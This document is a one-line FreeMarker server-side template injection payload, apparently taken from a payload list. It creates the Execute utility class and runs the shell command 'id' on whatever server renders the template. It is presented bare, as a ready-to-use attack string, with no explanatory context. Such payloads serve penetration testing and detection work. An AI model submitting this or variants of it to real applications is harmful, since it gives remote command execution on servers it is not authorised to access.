<#assign e = "freemarker.template.utility.Execute"?new()>${e("id")}
